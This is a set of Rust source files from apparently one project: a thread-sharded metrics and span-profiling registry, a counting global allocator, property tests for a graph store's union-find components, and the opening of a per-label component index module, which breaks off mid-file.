//! merged totals are identical regardless of thread scheduling, which is
//! what keeps instrumented pipeline runs bitwise-identical to
//! uninstrumented ones.
//!
//! # Profiling-grade attribution (PR 9)
//!
//! Each thread additionally keeps a **span stack**: the frames of every
//! open span on that thread, in begin order. A closing span charges its
//! wall time (and allocation delta, see [`crate::alloc`]) to the frame
//! below it, so every aggregate carries *self* time — total minus
//! children — and the registry can emit a folded-stack profile
//! ([`crate::Snapshot::to_folded`], flamegraph.pl/inferno-compatible).
//!
//! Parallel sections keep the *logical* stack intact across threads:
//! capture [`current_context`] before spawning and [`SpanContext::attach`]
//! inside the worker, and the worker's spans fold under the same parent
//! (and feed the same child accumulator, via a shared atomic cell) as if
//! they had run inline. Lazily-built shared resources whose triggering
//! caller is scheduling-dependent use [`detached`] instead, rooting their
//! spans at top level so the folded profile never depends on which racing
//! caller won. Together these keep the folded profile byte-identical at
//! any thread count.
//!
//! When the registry is disabled (the default) every entry point returns
//! after a single relaxed atomic load, so instrumentation left in hot
//! loops costs one predictable branch.

use crate::alloc as alloc_track;
use crate::clock::{Clock, RealClock};
use crate::export::{FoldedFrame, HistogramSnapshot, Snapshot, SpanAggregate, SpanEvent};
use std::cell::RefCell;
use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex, OnceLock, RwLock, Weak};
use std::time::Duration;

static ENABLED: AtomicBool = AtomicBool::new(false);
static NEXT_THREAD_ORDINAL: AtomicU64 = AtomicU64::new(1);
/// Tokens identify stack frames; 0 is reserved for "not on any stack".
static NEXT_TOKEN: AtomicU64 = AtomicU64::new(1);

/// Hard cap on retained span events per run; past it events are counted
/// in `events_dropped` instead of stored, bounding memory on long runs.
pub(crate) const MAX_EVENTS: usize = 1 << 18;

/// Upper bucket bounds (inclusive, 1-2-5 per decade) shared by every
/// histogram. Values above the last bound land in the overflow bucket.
pub const BUCKET_BOUNDS: [u64; 19] = [
    1, 2, 5, 10, 20, 50, 100, 200, 500, 1_000, 2_000, 5_000, 10_000, 20_000, 50_000, 100_000,
    200_000, 500_000, 1_000_000,
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Histogram {
    pub counts: [u64; BUCKET_BOUNDS.len() + 1],
    pub count: u64,
    pub sum: u64,
    pub min: u64,
    pub max: u64,
}

impl Histogram {
    fn new() -> Histogram {
        Histogram {
            counts: [0; BUCKET_BOUNDS.len() + 1],
            count: 0,
            sum: 0,
            min: u64::MAX,
            max: 0,
        }
    }

    fn record(&mut self, value: u64) {
        let idx = BUCKET_BOUNDS.partition_point(|bound| *bound < value);
        self.counts[idx] += 1;
        self.count += 1;
        self.sum += value;
        self.min = self.min.min(value);
        self.max = self.max.max(value);
    }

    fn merge(&mut self, other: &Histogram) {
        for (dst, src) in self.counts.iter_mut().zip(other.counts.iter()) {
            *dst += src;
        }
        self.count += other.count;
        self.sum += other.sum;
        self.min = self.min.min(other.min);
        self.max = self.max.max(other.max);
    }
}

/// Per-name span rollup inside a shard: every field is a `u64` sum, so
/// shard merges commute.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct SpanStat {
    pub count: u64,
    pub total_us: u64,
    pub self_us: u64,
    pub alloc_bytes: u64,
    pub allocs: u64,
}

/// Per-stack-path rollup (the folded profile): self time and self
/// allocations keyed by the full `parent;child;…` path.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct FoldedStat {
    pub count: u64,
    pub self_us: u64,
    pub alloc_bytes: u64,
    pub allocs: u64,
}

#[derive(Default)]
struct Aggregates {
    counters: HashMap<String, u64>,
    histograms: HashMap<String, Histogram>,
    spans: HashMap<String, SpanStat>,
    folded: HashMap<String, FoldedStat>,
    events: Vec<SpanEvent>,
    events_dropped: u64,
}

impl Aggregates {
    fn merge_from(&mut self, other: &mut Aggregates) {
        for (name, delta) in other.counters.drain() {
            *self.counters.entry(name).or_insert(0) += delta;
        }
        for (name, hist) in other.histograms.drain() {
            match self.histograms.get_mut(&name) {
                Some(existing) => existing.merge(&hist),
                None => {
                    self.histograms.insert(name, hist);
                }
            }
        }
        for (name, stat) in other.spans.drain() {
            let entry = self.spans.entry(name).or_default();
            entry.count += stat.count;
            entry.total_us += stat.total_us;
            entry.self_us += stat.self_us;
            entry.alloc_bytes += stat.alloc_bytes;
            entry.allocs += stat.allocs;
        }
        for (path, stat) in other.folded.drain() {
            let entry = self.folded.entry(path).or_default();
            entry.count += stat.count;
            entry.self_us += stat.self_us;
            entry.alloc_bytes += stat.alloc_bytes;
            entry.allocs += stat.allocs;
        }
        self.events_dropped += other.events_dropped;
        for event in other.events.drain(..) {
            if self.events.len() < MAX_EVENTS {
                self.events.push(event);
            } else {
                self.events_dropped += 1;
            }
        }
    }
}

struct GlobalState {
    agg: Aggregates,
    gauges: HashMap<String, f64>,
}

fn global() -> &'static Mutex<GlobalState> {
    static GLOBAL: OnceLock<Mutex<GlobalState>> = OnceLock::new();
    GLOBAL.get_or_init(|| {
        Mutex::new(GlobalState { agg: Aggregates::default(), gauges: HashMap::new() })
    })
}

fn clock_cell() -> &'static RwLock<Arc<dyn Clock>> {
    static CLOCK: OnceLock<RwLock<Arc<dyn Clock>>> = OnceLock::new();
    CLOCK.get_or_init(|| RwLock::new(Arc::new(RealClock::new())))
}

/// Microseconds on the registry clock. Mostly useful for log prefixes;
/// spans call it internally.
pub fn now_micros() -> u64 {
    clock_cell().read().unwrap().micros()
}

/// Weak handles to every shard ever registered; dead entries are pruned
/// on each sweep. Lock order is always list → shard → global state.
fn shard_list() -> &'static Mutex<Vec<Weak<Mutex<Aggregates>>>> {
    static LIST: OnceLock<Mutex<Vec<Weak<Mutex<Aggregates>>>>> = OnceLock::new();
    LIST.get_or_init(|| Mutex::new(Vec::new()))
}

struct ShardHandle {
    shard: Arc<Mutex<Aggregates>>,
    ordinal: u64,
}

impl Drop for ShardHandle {
    fn drop(&mut self) {
        // Fallback for threads that exit between snapshots: whatever a
        // sweep has not already drained folds into the global state.
        let mut agg = self.shard.lock().unwrap();
        if !agg.counters.is_empty()
            || !agg.histograms.is_empty()
            || !agg.spans.is_empty()
            || !agg.folded.is_empty()
            || !agg.events.is_empty()
            || agg.events_dropped > 0
        {
            global().lock().unwrap().agg.merge_from(&mut agg);
        }
    }
}

thread_local! {
    static SHARD: ShardHandle = {
        let shard = Arc::new(Mutex::new(Aggregates::default()));
        shard_list().lock().unwrap().push(Arc::downgrade(&shard));
        ShardHandle {
            shard,
            ordinal: NEXT_THREAD_ORDINAL.fetch_add(1, Ordering::SeqCst),
        }
    };
}

/// Run `f` against the calling thread's shard, falling back to a direct
/// global merge if the thread-local has already been torn down (a span
/// dropped during thread exit).
fn with_shard(f: impl FnOnce(&mut Aggregates, u64)) {
    let mut f = Some(f);
    let done =
        SHARD.try_with(|handle| (f.take().unwrap())(&mut handle.shard.lock().unwrap(), handle.ordinal));
    if done.is_err() {
        let mut tmp = Aggregates::default();
        (f.take().unwrap())(&mut tmp, 0);
        global().lock().unwrap().agg.merge_from(&mut tmp);
    }
}

/// Drain every live shard into the global accumulator and prune handles
/// whose threads are gone. Called before any read of merged state, so
/// results never depend on TLS-destructor timing.
fn sweep_shards() {
    let mut list = shard_list().lock().unwrap();
    list.retain(|weak| match weak.upgrade() {
        Some(shard) => {
            let mut agg = shard.lock().unwrap();
            global().lock().unwrap().agg.merge_from(&mut agg);
            true
        }
        None => false,
    });
}

/// Turn the registry on with the real wall clock (idempotent; the clock
/// epoch is set the first time the registry is touched).
pub fn enable() {
    ENABLED.store(true, Ordering::SeqCst);
}

/// Turn the registry on with a caller-supplied clock — tests inject a
/// [`crate::FakeClock`] here to pin span timestamps.
pub fn enable_with_clock(clock: Arc<dyn Clock>) {
    *clock_cell().write().unwrap() = clock;
    ENABLED.store(true, Ordering::SeqCst);
}

/// Turn the registry off; every subsequent call is a one-branch no-op.
/// Accumulated data survives until [`reset`].
pub fn disable() {
    ENABLED.store(false, Ordering::SeqCst);
}

/// Whether the registry is recording. The single branch hot paths pay.
#[inline]
pub fn enabled() -> bool {
    ENABLED.load(Ordering::Relaxed)
}

/// Clear all recorded counters, gauges, histograms, spans, and events
/// (the calling thread's shard included). Enabled state is unchanged.
pub fn reset() {
    let list = shard_list().lock().unwrap();
    for weak in list.iter() {
        if let Some(shard) = weak.upgrade() {
            *shard.lock().unwrap() = Aggregates::default();
        }
    }
    let mut state = global().lock().unwrap();
    state.agg = Aggregates::default();
    state.gauges.clear();
}

/// Add `delta` to the named counter. Labels ride inside the name using
/// `{key=value}` suffix convention, e.g. `build.edges_added{relation=similar}`.
pub fn counter_add(name: &str, delta: u64) {
    if !enabled() {
        return;
    }
    with_shard(|agg, _| match agg.counters.get_mut(name) {
        Some(value) => *value += delta,
        None => {
            agg.counters.insert(name.to_string(), delta);
        }
    });
}

/// Set the named gauge to `value` (last write wins). Gauges are low
/// frequency, so they go straight to the global table under the lock.
pub fn gauge_set(name: &str, value: f64) {
    if !enabled() {
        return;
    }
    global().lock().unwrap().gauges.insert(name.to_string(), value);
}

/// Record one observation in the named fixed-bucket histogram
/// (bounds in [`BUCKET_BOUNDS`], plus an overflow bucket).
pub fn histogram_record(name: &str, value: u64) {
    if !enabled() {
        return;
    }
    with_shard(|agg, _| match agg.histograms.get_mut(name) {
        Some(hist) => hist.record(value),
        None => {
            let mut hist = Histogram::new();
            hist.record(value);
            agg.histograms.insert(name.to_string(), hist);
        }
    });
}

/// What children charge their parent frame: wall time plus allocation
/// deltas, all relaxed atomic adds so cross-thread children (attached
/// contexts) merge deterministically.
#[derive(Default)]
pub(crate) struct ChildAccum {
    us: AtomicU64,
    bytes: AtomicU64,
    allocs: AtomicU64,
}

/// One open span (or attached context) on a thread's stack. `path` is
/// the full folded path including the frame's own name; `None` marks a
/// [`detached`] barrier, under which spans root at top level.
struct StackFrame {
    token: u64,
    path: Option<Arc<str>>,
    accum: Arc<ChildAccum>,
}

thread_local! {
    static STACK: RefCell<Vec<StackFrame>> = const { RefCell::new(Vec::new()) };
}

/// Remove the frame with `token` and everything above it (frames above a
/// closing frame are stale: their spans were leaked or closed on another
/// thread; truncating keeps later spans from nesting under them).
fn pop_frame(token: u64) {
    if token == 0 {
        return;
    }
    let _ = STACK.try_with(|stack| {
        let mut stack = stack.borrow_mut();
        if let Some(idx) = stack.iter().rposition(|f| f.token == token) {
            stack.truncate(idx);
        }
    });
}

/// A captured position in the logical span stack, for carrying
/// attribution across a thread spawn. Capture on the spawning thread with
/// [`current_context`], then [`SpanContext::attach`] inside the worker:
/// spans the worker opens fold under the captured parent and charge their
/// time and allocations to it exactly as if they had run inline — which
/// is what keeps folded profiles identical at any thread count.
pub struct SpanContext {
    parent: Option<(Arc<str>, Arc<ChildAccum>)>,
}

/// Capture the calling thread's innermost open span as a propagatable
/// context. Empty (a no-op to attach) when the registry is disabled, the
/// stack is empty, or the top frame is a [`detached`] barrier.
pub fn current_context() -> SpanContext {
    let mut parent = None;
    if enabled() {
        let _ = STACK.try_with(|stack| {
            if let Some(top) = stack.borrow().last() {
                if let Some(path) = &top.path {
                    parent = Some((path.clone(), top.accum.clone()));
                }
            }
        });
    }
    SpanContext { parent }
}

impl SpanContext {
    /// Push this context onto the calling thread's stack until the guard
    /// drops. Spans begun under the guard treat the captured span as
    /// their parent.
    pub fn attach(&self) -> ContextGuard {
        let Some((path, accum)) = &self.parent else {
            return ContextGuard { token: 0 };
        };
        if !enabled() {
            return ContextGuard { token: 0 };
        }
        let token = NEXT_TOKEN.fetch_add(1, Ordering::Relaxed);
        let pushed = STACK
            .try_with(|stack| {
                stack.borrow_mut().push(StackFrame {
                    token,
                    path: Some(path.clone()),
                    accum: accum.clone(),
                });
            })
            .is_ok();
        ContextGuard { token: if pushed { token } else { 0 } }
    }
}

/// Mask the calling thread's span stack until the guard drops: spans
/// begun under it root at top level and their time is not charged to any
/// enclosing span. Use around lazily-built shared resources (`OnceLock`
/// initialisers) whose triggering caller is scheduling-dependent — the
/// folded profile then attributes them to a stable root instead of to
/// whichever racing caller happened to win.
pub fn detached() -> ContextGuard {
    if !enabled() {
        return ContextGuard { token: 0 };
    }
    let token = NEXT_TOKEN.fetch_add(1, Ordering::Relaxed);
    let pushed = STACK
        .try_with(|stack| {
            stack.borrow_mut().push(StackFrame { token, path: None, accum: Arc::default() });
        })
        .is_ok();
    ContextGuard { token: if pushed { token } else { 0 } }
}

/// Stack guard returned by [`SpanContext::attach`] and [`detached`];
/// removes its frame (and any stale frames above it) on drop.
pub struct ContextGuard {
    token: u64,
}

impl Drop for ContextGuard {
    fn drop(&mut self) {
        pop_frame(self.token);
    }
}

/// A timing guard: measures from construction to drop (or [`Span::finish`])
/// and records a span event plus an aggregate entry under its name.
/// Construct through the [`crate::span!`] macro, which skips the name
/// formatting entirely when the registry is disabled.
///
/// Spans must close on the thread that began them — attribution samples
/// the thread's allocation counters and span stack. A guard moved to and
/// closed on another thread still records its wall time, but its
/// allocation delta is meaningless and is dropped to zero by saturation.
pub struct Span {
    name: Option<String>,
    path: String,
    token: u64,
    start_us: u64,
    start_bytes: u64,
    start_allocs: u64,
    parent: Option<Arc<ChildAccum>>,
    accum: Option<Arc<ChildAccum>>,
}

impl Span {
    /// Begin a span. Returns a no-op guard when the registry is disabled.
    pub fn begin(name: String) -> Span {
        if !enabled() {
            return Span::noop();
        }
        let (start_bytes, start_allocs) = alloc_track::thread_totals();
        let token = NEXT_TOKEN.fetch_add(1, Ordering::Relaxed);
        let accum: Arc<ChildAccum> = Arc::default();
        let mut parent = None;
        let mut path = name.clone();
        let _ = STACK.try_with(|stack| {
            let mut stack = stack.borrow_mut();
            if let Some(top) = stack.last() {
                if let Some(parent_path) = &top.path {
                    path = format!("{parent_path};{name}");
                }
                parent = Some(top.accum.clone());
            }
            stack.push(StackFrame {
                token,
                path: Some(Arc::from(path.as_str())),
                accum: accum.clone(),
            });
        });
        Span {
            name: Some(name),
            path,
            token,
            start_us: now_micros(),
            start_bytes,
            start_allocs,
            parent,
            accum: Some(accum),
        }
    }

    /// A guard that records nothing and measures zero.
    pub fn noop() -> Span {
        Span {
            name: None,
            path: String::new(),
            token: 0,
            start_us: 0,
            start_bytes: 0,
            start_allocs: 0,
            parent: None,
            accum: None,
        }
    }

    /// Close the span now and return the measured wall time
    /// ([`Duration::ZERO`] for a no-op guard).
    pub fn finish(mut self) -> Duration {
        self.close()
    }

    fn close(&mut self) -> Duration {
        let Some(name) = self.name.take() else {
            return Duration::ZERO;
        };
        let end_us = now_micros();
        let dur_us = end_us.saturating_sub(self.start_us);
        let (end_bytes, end_allocs) = alloc_track::thread_totals();
        let delta_bytes = end_bytes.saturating_sub(self.start_bytes);
        let delta_allocs = end_allocs.saturating_sub(self.start_allocs);
        pop_frame(self.token);
        let (child_us, child_bytes, child_allocs) = match &self.accum {
            Some(accum) => (
                accum.us.load(Ordering::Relaxed),
                accum.bytes.load(Ordering::Relaxed),
                accum.allocs.load(Ordering::Relaxed),
            ),
            None => (0, 0, 0),
        };
        let self_us = dur_us.saturating_sub(child_us);
        let self_bytes = delta_bytes.saturating_sub(child_bytes);
        let self_allocs = delta_allocs.saturating_sub(child_allocs);
        if let Some(parent) = &self.parent {
            parent.us.fetch_add(dur_us, Ordering::Relaxed);
            parent.bytes.fetch_add(delta_bytes, Ordering::Relaxed);
            parent.allocs.fetch_add(delta_allocs, Ordering::Relaxed);
        }
        let path = std::mem::take(&mut self.path);
        let start_us = self.start_us;
        with_shard(|agg, ordinal| {
            let stat = agg.spans.entry(name.clone()).or_default();
            stat.count += 1;
            stat.total_us += dur_us;
            stat.self_us += self_us;
            stat.alloc_bytes += self_bytes;
            stat.allocs += self_allocs;
            let folded = agg.folded.entry(path).or_default();
            folded.count += 1;
            folded.self_us += self_us;
            folded.alloc_bytes += self_bytes;
            folded.allocs += self_allocs;
            if agg.events.len() < MAX_EVENTS {
                agg.events.push(SpanEvent { name, thread: ordinal, start_us, dur_us });
            } else {
                agg.events_dropped += 1;
            }
        });
        Duration::from_micros(dur_us)
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        let _ = self.close();
    }
}

/// Total recorded microseconds under the named span so far (flushes the
/// calling thread's shard first). Callers use before/after deltas to
/// attribute nested time, e.g. the similarity share of a build.
pub fn span_total_micros(name: &str) -> u64 {
    sweep_shards();
    global().lock().unwrap().agg.spans.get(name).map(|stat| stat.total_us).unwrap_or(0)
}

/// A consistent copy of everything recorded so far, with deterministic
/// (name-sorted) ordering ready for export.
pub fn snapshot() -> Snapshot {
    sweep_shards();
    let state = global().lock().unwrap();
    let mut counters: Vec<(String, u64)> =
        state.agg.counters.iter().map(|(k, v)| (k.clone(), *v)).collect();
    counters.sort();
    let mut gauges: Vec<(String, f64)> =
        state.gauges.iter().map(|(k, v)| (k.clone(), *v)).collect();
    gauges.sort_by(|a, b| a.0.cmp(&b.0));
    let mut histograms: Vec<HistogramSnapshot> = state
        .agg
        .histograms
        .iter()
        .map(|(name, h)| HistogramSnapshot {
            name: name.clone(),
            count: h.count,
            sum: h.sum,
            min: if h.count == 0 { 0 } else { h.min },
            max: h.max,
            buckets: h.counts.to_vec(),
        })
        .collect();
    histograms.sort_by(|a, b| a.name.cmp(&b.name));
    let mut spans: Vec<SpanAggregate> = state
        .agg
        .spans
        .iter()
        .map(|(name, stat)| SpanAggregate {
            name: name.clone(),
            count: stat.count,
            total_us: stat.total_us,
            self_us: stat.self_us,
            alloc_bytes: stat.alloc_bytes,
            allocs: stat.allocs,
        })
        .collect();
    spans.sort_by(|a, b| a.name.cmp(&b.name));
    let mut folded: Vec<FoldedFrame> = state
        .agg
        .folded
        .iter()
        .map(|(stack, stat)| FoldedFrame {
            stack: stack.clone(),
            count: stat.count,
            self_us: stat.self_us,
            alloc_bytes: stat.alloc_bytes,
            allocs: stat.allocs,
        })
        .collect();
    folded.sort_by(|a, b| a.stack.cmp(&b.stack));
    let mut events = state.agg.events.clone();
    // Name before thread ordinal: worker ordinals depend on spawn timing,
    // so under a fake clock (equal start times) sorting by name keeps the
    // trace byte-stable run to run.
    events.sort_by(|a, b| {
        (a.start_us, &a.name, a.dur_us, a.thread).cmp(&(b.start_us, &b.name, b.dur_us, b.thread))
    });
    Snapshot {
        counters,
        gauges,
        histograms,
        spans,
        folded,
        events,
        events_dropped: state.agg.events_dropped,
    }
}

/// Begin a [`Span`], formatting its name only when the registry is
/// enabled (disabled call sites pay one branch, no allocation).
#[macro_export]
macro_rules! span {
    ($($arg:tt)*) => {
        if $crate::enabled() {
            $crate::Span::begin(format!($($arg)*))
        } else {
            $crate::Span::noop()
        }
    };
}
