//! Opt-in allocation accounting: a counting [`GlobalAlloc`] wrapper plus
//! the thread-local totals the span layer samples from.
//!
//! # Design
//!
//! [`CountingAlloc`] wraps [`System`] and, when tracking is on, bumps two
//! `const`-initialized thread-local [`Cell`]s on every `alloc` /
//! `alloc_zeroed` / `realloc`-growth. That is the *entire* hot path: the
//! allocator never calls back into the registry (which itself
//! allocates), never takes a lock, and the thread-locals have no `Drop`
//! impl, so there is no TLS-destructor reentrancy hazard during thread
//! teardown. The span layer does the attribution instead: a span samples
//! [`thread_totals`] when it opens and again when it closes, and charges
//! the delta (minus its children's deltas) to itself.
//!
//! # Installation
//!
//! The allocator is **not** installed by this crate — a library must not
//! claim `#[global_allocator]`. Binaries that want allocation profiles
//! (the `malgraph` CLI, `obs_overhead`, `repro`, test binaries) install
//! it themselves:
//!
//! ```ignore
//! #[global_allocator]
//! static ALLOC: obs::alloc::CountingAlloc = obs::alloc::CountingAlloc::new();
//! ```
//!
//! Even when installed, counting is gated behind a runtime flag
//! ([`enable_tracking`]) that defaults to off, so the steady-state cost
//! in a binary that never profiles is one relaxed atomic load per
//! allocation. Binaries without the allocator still work fully — spans
//! simply report zero allocation deltas.
//!
//! # Determinism
//!
//! Allocation counts feed the folded profile and JSON snapshots but
//! never pipeline output, and byte/call totals for a fixed workload are
//! a property of the code path taken, not of timing — the same build
//! running the same work reports the same numbers.

#![allow(unsafe_code)] // GlobalAlloc is an unsafe trait; this module is the one carve-out.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::sync::atomic::{AtomicBool, Ordering};

/// Global gate: when false (the default) the allocator is a transparent
/// passthrough apart from one relaxed load.
static TRACKING: AtomicBool = AtomicBool::new(false);

thread_local! {
    // const-init Cells: no lazy-init branch, no Drop, safe to touch from
    // the allocator even while TLS is being torn down.
    static BYTES: Cell<u64> = const { Cell::new(0) };
    static ALLOCS: Cell<u64> = const { Cell::new(0) };
}

/// Turn allocation counting on. A no-op unless a binary installed
/// [`CountingAlloc`] as its `#[global_allocator]`.
pub fn enable_tracking() {
    TRACKING.store(true, Ordering::Relaxed);
}

/// Turn allocation counting off again.
pub fn disable_tracking() {
    TRACKING.store(false, Ordering::Relaxed);
}

/// Whether allocation counting is currently on.
pub fn tracking_enabled() -> bool {
    TRACKING.load(Ordering::Relaxed)
}

/// Monotonic `(bytes, allocation_calls)` recorded on *this* thread since
/// it started. Spans sample this at open and close and attribute the
/// difference; the counters only ever grow, so deltas are well-defined.
pub fn thread_totals() -> (u64, u64) {
    (BYTES.with(Cell::get), ALLOCS.with(Cell::get))
}

#[inline]
fn charge(bytes: usize) {
    // `try_with` rather than `with`: during thread teardown TLS may be
    // unavailable; losing a few exit-path allocations is fine, aborting
    // inside the allocator is not.
    let _ = BYTES.try_with(|b| b.set(b.get() + bytes as u64));
    let _ = ALLOCS.try_with(|a| a.set(a.get() + 1));
}

/// A [`System`]-backed global allocator that counts per-thread allocation
/// bytes and calls when [`enable_tracking`] has been called.
///
/// Deallocations are not tracked: the profile answers "which span
/// *allocates*", the churn question, not live-set size — and a span that
/// frees another span's memory should not go negative.
pub struct CountingAlloc(());

impl CountingAlloc {
    /// `const` constructor for `static` installation sites.
    pub const fn new() -> Self {
        CountingAlloc(())
    }
}

impl Default for CountingAlloc {
    fn default() -> Self {
        Self::new()
    }
}

// SAFETY: every method delegates directly to `System`, which upholds the
// GlobalAlloc contract; the counting side-effect touches only Cells on
// the current thread and never observes or alters the returned memory.
unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        if TRACKING.load(Ordering::Relaxed) {
            charge(layout.size());
        }
        System.alloc(layout)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        if TRACKING.load(Ordering::Relaxed) {
            charge(layout.size());
        }
        System.alloc_zeroed(layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        if TRACKING.load(Ordering::Relaxed) && new_size > layout.size() {
            // Only the growth is new memory pressure; shrinking reallocs
            // are free from the churn perspective.
            charge(new_size - layout.size());
        }
        System.realloc(ptr, layout, new_size)
    }
}
