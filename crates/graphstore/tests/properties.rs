//! Property-based tests: the union-find component extraction must agree
//! with a BFS reference implementation on arbitrary graphs, and degree
//! accounting must balance.

use graphstore::{NodeId, PropertyGraph};
use proptest::prelude::*;

fn build_graph(nodes: usize, edges: &[(usize, usize, u8)]) -> PropertyGraph<usize, u8> {
    let mut g = PropertyGraph::new();
    let ids: Vec<NodeId> = (0..nodes).map(|i| g.add_node(i)).collect();
    for &(a, b, label) in edges {
        let (a, b) = (ids[a % nodes], ids[b % nodes]);
        if a != b {
            g.add_undirected_edge(a, b, label % 3);
        }
    }
    g
}

/// BFS reference: components over edges whose label passes `filter`,
/// restricted to incident nodes.
fn bfs_components(g: &PropertyGraph<usize, u8>, label: u8) -> Vec<Vec<NodeId>> {
    let incident: std::collections::BTreeSet<NodeId> = g
        .node_ids()
        .filter(|&n| {
            g.out_degree_by(n, |l| *l == label) + g.in_degree_by(n, |l| *l == label) > 0
        })
        .collect();
    let mut seen: std::collections::BTreeSet<NodeId> = Default::default();
    let mut out = Vec::new();
    for &start in &incident {
        if seen.contains(&start) {
            continue;
        }
        let comp = g.reachable(start, |l| *l == label);
        for &n in &comp {
            seen.insert(n);
        }
        out.push(comp);
    }
    out.sort_by_key(|c| c[0]);
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn unionfind_components_match_bfs_reference(
        nodes in 1usize..30,
        edges in proptest::collection::vec((0usize..30, 0usize..30, 0u8..3), 0..60),
    ) {
        let g = build_graph(nodes, &edges);
        for label in 0u8..3 {
            let mut uf = g.components(|l| *l == label);
            let mut bfs = bfs_components(&g, label);
            for c in uf.iter_mut().chain(bfs.iter_mut()) {
                c.sort_unstable();
            }
            uf.sort_by_key(|c| c[0]);
            bfs.sort_by_key(|c| c[0]);
            prop_assert_eq!(uf, bfs, "label {} mismatch", label);
        }
    }

    #[test]
    fn degree_sums_balance_edge_counts(
        nodes in 1usize..30,
        edges in proptest::collection::vec((0usize..30, 0usize..30, 0u8..3), 0..60),
    ) {
        let g = build_graph(nodes, &edges);
        for label in 0u8..3 {
            let out_sum: usize = g.node_ids().map(|n| g.out_degree_by(n, |l| *l == label)).sum();
            let in_sum: usize = g.node_ids().map(|n| g.in_degree_by(n, |l| *l == label)).sum();
            let edge_count = g.edge_count_by(|l| *l == label);
            prop_assert_eq!(out_sum, edge_count);
            prop_assert_eq!(in_sum, edge_count);
            // Undirected storage ⇒ even counts.
            prop_assert_eq!(edge_count % 2, 0);
        }
    }

    #[test]
    fn components_partition_incident_nodes(
        nodes in 1usize..30,
        edges in proptest::collection::vec((0usize..30, 0usize..30, 0u8..3), 0..60),
    ) {
        let g = build_graph(nodes, &edges);
        let comps = g.components(|_| true);
        let mut seen = std::collections::BTreeSet::new();
        for comp in &comps {
            prop_assert!(comp.len() >= 2, "singletons are excluded by definition");
            for &n in comp {
                prop_assert!(seen.insert(n), "node {} in two components", n);
            }
        }
    }
}
