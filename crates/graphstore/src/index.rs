//! Cached per-label query structures: components + CSR adjacency.
//!
//! [`PropertyGraph::components`] re-walks every `Vec<(NodeId, L)>`
//! adjacency list and re-runs the union-find on each call. The analysis
//! layer asks the same label-restricted questions over and over (every
//! paper table/figure is a census over one relation's components), so
//! this module computes the answer once and snapshots it:
//!
//! * [`ComponentIndex`] — the connected components, in exactly the order
//!   [`PropertyGraph::components`] returns them (the index replays the
//!   same union sequence and the same root-keyed collection, so cached
//!   and fresh results are byte-identical), plus a node → component map
//!   for O(1) membership queries and the Table-II node/edge counts.
//!   [`ComponentIndex::build_many`] amortises one adjacency traversal
//!   over every label of interest — on a graph whose similarity relation
//!   alone carries tens of millions of directed edges, re-walking the
//!   full edge list once per label is the dominant cost.
//! * [`AdjacencyIndex`] — a CSR (compressed sparse row) snapshot of one
//!   label's out-adjacency, for traversal queries. Kept separate from
//!   [`ComponentIndex`] deliberately: materialising the CSR for a
//!   multi-million-edge label costs hundreds of megabytes, while the
//!   traversal queries only ever run over sparse labels.
//!
//! Both indexes are snapshots: they do **not** observe later mutations
//! of the graph on their own. A cache owner has two choices after the
//! graph changes: drop the index and rebuild on next use, or — when the
//! change is strictly *append-only for the indexed label* (new nodes
//! whose label edges stay among themselves, as with the duplicate
//! cliques of the incremental ingestion path) — carry the snapshot
//! forward with [`ComponentIndex::extend`] / [`AdjacencyIndex::extend`],
//! which replay only the appended suffix and are byte-identical to a
//! fresh build by construction.

use crate::stats::RelationStats;
use crate::{unionfind, NodeId, PropertyGraph};

/// Marker for "not in any component of this label".
const NO_GROUP: u32 = u32::MAX;

/// Per-label component index.
///
/// Logically immutable for queries; [`ComponentIndex::extend`] is the
/// one mutation, retained union-find state makes it pay only for the
/// appended node suffix.
#[derive(Debug, Clone)]
pub struct ComponentIndex {
    components: Vec<Vec<NodeId>>,
    /// Node index → component index, [`NO_GROUP`] when the node has no
    /// edge of the label.
    group_of: Vec<u32>,
    /// Nodes incident to at least one edge of the label.
    nodes: usize,
    /// Directed edges of the label.
    edges: usize,
    /// The union-find forest the components were collected from, kept
    /// so [`ComponentIndex::extend`] can resume the union sequence
    /// instead of replaying the full edge list.
    uf: unionfind::UnionFind,
    touched: Vec<bool>,
}

/// The per-label accumulator state of [`ComponentIndex::build_many`].
struct Builder {
    uf: unionfind::UnionFind,
    touched: Vec<bool>,
    edges: usize,
}

/// Collects the touched nodes of `uf` into components keyed by their
/// root (ascending), mirroring [`PropertyGraph::components`]'s
/// root-keyed `BTreeMap` collection so the result is byte-identical to
/// a fresh computation over the same union sequence.
fn collect_components(
    uf: &mut unionfind::UnionFind,
    touched: &[bool],
) -> (Vec<Vec<NodeId>>, Vec<u32>, usize) {
    let mut by_root: std::collections::BTreeMap<usize, Vec<NodeId>> =
        std::collections::BTreeMap::new();
    for (i, &is_touched) in touched.iter().enumerate() {
        if is_touched {
            by_root.entry(uf.find(i)).or_default().push(NodeId::from_index(i));
        }
    }
    let components: Vec<Vec<NodeId>> = by_root.into_values().collect();
    let mut group_of = vec![NO_GROUP; touched.len()];
    let mut nodes = 0usize;
    for (g, comp) in components.iter().enumerate() {
        nodes += comp.len();
        for &member in comp {
            group_of[member.index()] = u32::try_from(g).expect("graph too large");
        }
    }
    (components, group_of, nodes)
}

impl Builder {
    fn new(n: usize) -> Builder {
        Builder {
            uf: unionfind::UnionFind::new(n),
            touched: vec![false; n],
            edges: 0,
        }
    }

    fn union(&mut self, from: usize, to: usize) {
        self.uf.union(from, to);
        self.touched[from] = true;
        self.touched[to] = true;
        self.edges += 1;
    }

    fn finish(mut self) -> ComponentIndex {
        let (components, group_of, nodes) = collect_components(&mut self.uf, &self.touched);
        ComponentIndex {
            components,
            group_of,
            nodes,
            edges: self.edges,
            uf: self.uf,
            touched: self.touched,
        }
    }
}

impl ComponentIndex {
